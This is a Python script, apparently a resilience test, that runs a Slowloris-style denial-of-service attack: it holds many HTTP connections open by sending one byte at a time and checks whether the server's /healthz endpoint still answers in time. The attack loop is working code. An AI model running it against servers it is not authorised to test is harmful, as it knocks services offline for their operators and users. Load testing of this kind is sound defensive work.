#!/usr/bin/env python3
"""Exhaust an HTTP server the slow way, and check that /healthz still answers.

usage: slowloris.py HOST PORT CONNECTIONS SECONDS [TIMEOUT]

Opens CONNECTIONS connections that each send a request one byte every
0.3 s (so an idle timeout reset by every byte never fires), re-opening any
the server closes, for SECONDS.  Meanwhile a probe asks GET /healthz every
0.5 s with a TIMEOUT s timeout (default 1), like kubelet's liveness probe.
Prints one line: "probes N ok M slowest T ms", and exits 0 when every probe
got 200 ok within TIMEOUT.
"""
import socket
import sys
import time

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
timeout = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
slowest = 0.0
REQ = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000


def opener():
    s = socket.socket()
    s.settimeout(0.2)
    try:
        s.connect((host, port))
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return [s, 0]


def probe():
    global slowest
    t0 = time.time()
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            data = b""
            while time.time() - t0 < timeout:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            took = time.time() - t0
            slowest = max(slowest, took)
            return data.startswith(b"HTTP/1.1 200") and data.endswith(b"ok\n") and took < timeout
    except OSError:
        slowest = max(slowest, time.time() - t0)
        return False


conns = [opener() for _ in range(n)]
end = time.time() + secs
next_probe = time.time() + 0.5
probes = ok = 0
while time.time() < end:
    for i, c in enumerate(conns):
        if c is None:
            conns[i] = opener()
            continue
        s, off = c
        try:
            s.send(REQ[off:off + 1])
            c[1] = (off + 1) % len(REQ)
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            conns[i] = opener()
    if time.time() >= next_probe:
        probes += 1
        ok += probe()
        next_probe = time.time() + 0.5
    time.sleep(0.3)
for c in conns:
    if c:
        c[0].close()
print("probes %d ok %d slowest %d ms" % (probes, ok, slowest * 1000))
sys.exit(0 if probes > 0 and ok == probes else 1)
